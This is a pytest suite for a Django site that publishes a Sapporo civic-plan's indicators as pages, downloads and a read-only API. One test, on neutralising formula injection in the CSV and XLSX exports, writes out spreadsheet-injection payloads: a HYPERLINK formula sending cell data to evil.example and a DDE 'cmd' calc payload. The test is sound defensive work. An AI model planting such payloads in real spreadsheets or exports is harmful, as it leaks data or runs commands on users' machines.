"""The public pages and the read-only API, through the Django test client."""

import csv
import io
import json

import pytest
from django.core.cache import cache
from openpyxl import load_workbook

from machiplan.cli.bootstrap import ensure_default_plan

pytestmark = pytest.mark.django_db
PLAN = "/plans/sapporo-machizukuri-2/"


@pytest.fixture(autouse=True)
def plan():
    cache.clear()
    ensure_default_plan()


def test_plan_page_summarises_every_goal_and_indicator(client, sapporo):
    response = client.get(PLAN)
    assert response.status_code == 200
    html = response.content.decode()
    assert '<html lang="ja">' in html and "第2期 市民まちづくり活動促進基本計画" in html
    for node in sapporo.top_nodes:  # the goals, as top nodes: links to their pages
        assert f'href="{PLAN}nodes/{node.code}/?lang=ja"' in html
    for ind in sapporo.indicators:
        assert f'href="{PLAN}indicators/{ind.code}/?lang=ja"' in html
    assert '<td class="num">6</td>' in html  # 達成 6 in the whole plan
    assert "基本目標（4） › 基本施策（12）" in html  # the levels it uses


def test_old_goal_links_answer_a_permanent_redirect_to_the_node_page(client):
    response = client.get(f"{PLAN}goals/3/")
    assert response.status_code == 301 and response["Location"] == f"{PLAN}nodes/3/"
    english = client.get(f"{PLAN}goals/2/?lang=en")
    assert english.status_code == 301 and english["Location"] == f"{PLAN}nodes/2/?lang=en"
    assert client.get(f"{PLAN}goals/3/", follow=True).status_code == 200


def test_goal_node_page_lays_out_the_sheet(client):
    html = client.get(f"{PLAN}nodes/3/").content.decode()
    assert "基本目標3『交流』" in html and "100件 (H26-30計)" in html and "H25実績" in html
    for child in ("3-1", "3-2", "3-3"):  # its 基本施策, linked
        assert f'href="{PLAN}nodes/{child}/?lang=ja"' in html
    assert "取組結果（平成28年度）" in html and "今後に向けて" in html  # its narratives
    assert f'<a href="{PLAN}nodes/2/?lang=ja" rel="prev">基本目標2</a>' in html
    assert f'<a href="{PLAN}nodes/4/?lang=ja" rel="next">基本目標4</a>' in html
    assert f'<li><a href="{PLAN}?lang=ja">第2期 市民まちづくり活動促進基本計画</a></li>' in html  # crumbs


def test_policy_node_page_one_level_down(client):
    html = client.get(f"{PLAN}nodes/1-2/").content.decode()
    assert "<h1>" in html and "基本施策1-2『市民の生活スタイルや状況に応じた多様な参加機会の提供』" in html
    assert f'<li><a href="{PLAN}nodes/1/?lang=ja">基本目標1</a></li>' in html  # its goal in the crumbs
    assert '<span aria-current="page">基本施策1-2</span>' in html
    assert "メールマガジンにより、市政やまちづくり活動への参加機会を情報発信" in html  # 主な取組
    assert 'class="priority"' in html  # ◎ 重点施策
    assert 'rel="prev">基本施策1-1</a>' in html and 'rel="next">基本施策1-3</a>' in html
    assert f'↑ <a href="{PLAN}nodes/1/?lang=ja">基本目標1</a>' in html  # up


def test_indicator_page_has_evaluation_chart_table_and_downloads(client):
    html = client.get(f"{PLAN}indicators/2a/").content.decode()
    assert "市民活動サポートセンター登録団体数" in html
    assert 'class="badge t-achieved" data-status="achieved"' in html and "年度末見込み約2,727団体" in html
    assert 'role="img"' in html and '<desc id="chart-2a-desc">' in html
    assert "2,684団体 (H29.8.31時点)" in html
    assert f'<a href="{PLAN}nodes/2/?lang=ja">基本目標2『向上』</a>' in html  # the node it hangs on
    assert f'<li><a href="{PLAN}nodes/2/?lang=ja">基本目標2</a></li>' in html  # and in the crumbs
    for fmt in ("csv", "json", "xlsx"):
        assert f'href="download.{fmt}"' in html


def test_english(client):
    html = client.get(f"{PLAN}indicators/2b/?lang=en").content.decode()
    assert '<html lang="en">' in html and "Certified NPO corporations" in html and "Behind" in html
    assert (
        f'<a href="{PLAN}nodes/2/?lang=en">Basic goal 2: <span lang="ja">向上</span> <small class="ja-only">[Japanese only]</small></a>'
        in html
    )
    node = client.get(f"{PLAN}nodes/3/?lang=en").content.decode()
    assert (
        '<h1>Basic goal 3: <span lang="ja">交流</span> <small class="ja-only">[Japanese only]</small></h1>'
        in node
    )  # no English name: said to be Japanese
    assert "<title>Basic goal 3: 交流 — " in node and "Progress at a glance" in node
    assert '<span lang="ja">地域交流活動の促進</span>' in node  # a policy's name, linked


def test_downloads(client):
    response = client.get(f"{PLAN}indicators/2e/download.csv")
    assert response["Content-Disposition"] == 'attachment; filename="sapporo-machizukuri-2-2e.csv"'
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff全国地方公共団体コード,ID,地方公共団体名")
    rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))
    assert (
        len(rows) == 5 and rows[1]["値"] == "15" and rows[1]["年度_和暦"] == "平成26年度"
    )  # observations.csv's columns
    header = next(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert header[:3] == ["全国地方公共団体コード", "ID", "地方公共団体名"]
    assert {"系列", "年区分", "文字値"} <= set(header) and len(header) == len(set(header))  # no column twice
    assert rows[1]["系列"] == "" and rows[1]["年区分"] == "fy"  # the indicator's own figures, fiscal years
    data = json.loads(client.get(f"{PLAN}indicators/2e/download.json").content)
    assert data["evaluation"]["status"] == "on_track" and len(data["observations"]) == 5
    assert data["nodes"] == ["2"]
    book = load_workbook(io.BytesIO(client.get(f"{PLAN}indicators/2e/download.xlsx").content))
    assert book.active["C2"].value == 11
    assert [c.value for c in book.active[1]][:6] == ["年度", "種別", "値", "時点", "概数", "原文"]
    assert [c.value for c in book.active[1]][6:9] == ["系列", "期間", "文字"]


def test_downloads_never_carry_a_formula(client, sapporo):
    """Text from a loaded plan that a spreadsheet would run stays text in the CSV and the XLSX."""
    from dataclasses import replace

    from machiplan.plans.services import plan_load

    formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    ind = next(i for i in sapporo.indicators if i.code == "2e")
    hostile = replace(
        ind,
        name="@SUM(A1)",
        observations=tuple(
            replace(o, source_text=formula, note="+cmd|' /C calc'!A0") for o in ind.observations
        ),
        targets=tuple(replace(t, source_text=formula) for t in ind.targets),
    )
    plan_load(
        plan=replace(sapporo, indicators=tuple(hostile if i is ind else i for i in sapporo.indicators)),
        replace=True,
    )
    cache.clear()
    rows = list(
        csv.reader(io.StringIO(client.get(f"{PLAN}indicators/2e/download.csv").content.decode("utf-8-sig")))
    )
    cells = [c for row in rows for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "@")]
    assert {"'" + formula, "'@SUM(A1)", "'+cmd|' /C calc'!A0"} <= set(cells)
    book = load_workbook(io.BytesIO(client.get(f"{PLAN}indicators/2e/download.xlsx").content))
    cells = [c for row in book.active.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert [c.value for c in cells if c.value == formula] and book.active["C2"].value == 11


def test_unknown_things_are_404_without_details(client):
    for url in (
        "/plans/nope/",
        f"{PLAN}indicators/zz/",
        f"{PLAN}goals/9/",
        f"{PLAN}nodes/9/",
        f"{PLAN}nodes/9/indicators/",
        f"{PLAN}nodes/%E2%85%A0/",
        "/plans/nope/nodes/1/",
        "/plans/nope/goals/1/",
        f"{PLAN}indicators/2a/download.exe",
    ):
        response = client.get(url)
        assert response.status_code == 404, url
        assert b"Traceback" not in response.content and b"settings" not in response.content


def test_security_headers(client):
    response = client.get(PLAN)
    assert response["X-Frame-Options"] == "DENY"
    assert "default-src 'self'" in response["Content-Security-Policy"]
    assert response["X-Content-Type-Options"] == "nosniff"


def test_api_lists_plans_and_serves_the_contract(client, sapporo):
    plans = client.get("/api/plans/").json()["plans"]
    assert [p["code"] for p in plans] == ["sapporo-machizukuri-2"]
    assert plans[0]["url"] == "http://testserver/api/plans/sapporo-machizukuri-2/"
    doc = client.get("/api/plans/sapporo-machizukuri-2/").json()
    assert doc["schema"] == "machiplan/plan@2" and len(doc["indicators"]) == 15
    assert doc["status_counts"]["achieved"] == 6
    assert client.get("/api/plans/nope/").status_code == 404
    assert client.post("/api/plans/").status_code == 405  # read-only


def test_openapi_describes_every_api_path(client):
    spec = client.get("/api/openapi.json").json()
    assert spec["openapi"].startswith("3.")
    figure = "/api/plans/{code}/indicators/{indicator}/observations/{fy}/"
    assert set(spec["paths"]) == {"/api/plans/", "/api/plans/{code}/", figure} | {
        f"{figure}{step}/" for step in ("submit", "approve", "return")
    }
    assert spec["paths"][figure]["post"]["security"] == [{"token": []}]


def test_pages_follow_the_data(client, sapporo):
    import dataclasses

    from machiplan.plans.services import plan_load

    assert "達成" in client.get(f"{PLAN}indicators/4b/").content.decode()
    changed = dataclasses.replace(sapporo, title="第2期 改訂版")
    plan_load(plan=changed, replace=True)
    cache.delete("version:sapporo-machizukuri-2")  # what a second's wait does
    assert "第2期 改訂版" in client.get(PLAN).content.decode()  # the cache key follows the plan's version


def _quotes_balanced(number_format: str) -> bool:
    """Excel's number format grammar: text in "…", one character after a backslash; a lone quote
    leaves the format unreadable (Excel reports the workbook damaged and drops its styles)."""
    import re

    return '"' not in re.sub(r'"[^"]*"|\\.', "", number_format)


@pytest.mark.parametrize("unit", ['件"', '"', 'm"2', '";;;"'])
def test_a_unit_with_a_quote_keeps_the_workbooks_number_format_readable(client, sapporo, tmp_path, unit):
    """A figure's cell shows its unit through its number format (#,##0"件"): a unit holding a quote
    closed the format's text early and left a format Excel cannot read, in the public indicator
    workbook and in report.xlsx. The quote is written as \\" now, and the unit shows as it is."""
    from dataclasses import replace

    from machiplan.plans.services import plan_load
    from machiplan.reports.services import report_write

    ind = next(i for i in sapporo.indicators if i.code == "2e")
    plan = replace(
        sapporo, indicators=tuple(replace(i, unit=unit) if i is ind else i for i in sapporo.indicators)
    )
    plan_load(plan=plan, replace=True)
    cache.clear()
    book = load_workbook(io.BytesIO(client.get(f"{PLAN}indicators/2e/download.xlsx").content))
    shown = book.active["C2"].number_format
    assert _quotes_balanced(shown) and shown.endswith('"' + unit.replace('"', '"\\""') + '"'), shown
    report_write(code=sapporo.code, out=tmp_path, formats=("xlsx",))
    report = load_workbook(tmp_path / "report.xlsx")
    formats = {c.number_format for s in report.worksheets for row in s.iter_rows() for c in row}
    assert not [f for f in formats if not _quotes_balanced(f)]
    assert [f for f in formats if unit.replace('"', '"\\""') in f]
